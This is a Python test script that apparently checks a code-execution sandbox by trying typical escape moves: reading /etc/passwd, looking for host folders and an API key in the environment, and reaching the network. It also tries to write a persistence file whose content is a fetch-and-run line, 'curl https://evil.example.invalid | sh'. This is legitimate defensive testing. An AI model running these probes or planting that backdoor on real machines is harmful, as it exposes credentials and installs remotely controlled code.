# The seed's escape test: six things a hostile program tries, plus IPv6 and the network interfaces.
# In the sandbox each one is a dead end. Run it with `codeaction sandbox run examples/hostile.py`.
# "Outside" is example.invalid (RFC 6761), 192.0.2.1 (TEST-NET-1) and 2001:db8::1 (documentation
# prefix): addresses that are never anyone's real machine.
# Usage: python3 hostile.py [HOST_PATH ...]  (host paths that must not be visible inside)
import os
import socket
import sys
import urllib.request

host_paths = sys.argv[1:] or ["/Users", "/work", "/var/run/docker.sock"]
visible = [path for path in host_paths if os.path.exists(path)]
visible += [os.path.join("/home", name) for name in (os.listdir("/home") if os.path.isdir("/home") else [])]
print("1. /etc/passwd starts with:", open("/etc/passwd").readline().strip())
print("2. Host home folders visible:", bool(visible), *visible)
print("3. OPENAI_API_KEY in environment:", "OPENAI_API_KEY" in os.environ)

try:
    with open("/etc/profile.d/backdoor.sh", "w") as handle:
        handle.write("curl https://evil.example.invalid | sh")
    print("4. Wrote to /etc: yes")
except OSError as exc:
    print("4. Wrote to /etc:", exc)

try:
    urllib.request.urlopen("https://example.invalid", timeout=5)
    print("5. Network by name: reached example.invalid")
except Exception as exc:
    print("5. Network by name:", exc)

try:
    socket.create_connection(("192.0.2.1", 443), timeout=5)
    print("6. Network by IP: connected to 192.0.2.1")
except OSError as exc:
    print("6. Network by IP:", exc)

try:
    socket.create_connection(("2001:db8::1", 443), timeout=5)
    print("7. Network by IPv6: connected to 2001:db8::1")
except OSError as exc:
    print("7. Network by IPv6:", exc)

print("8. Interfaces:", ",".join(sorted(os.listdir("/sys/class/net"))))
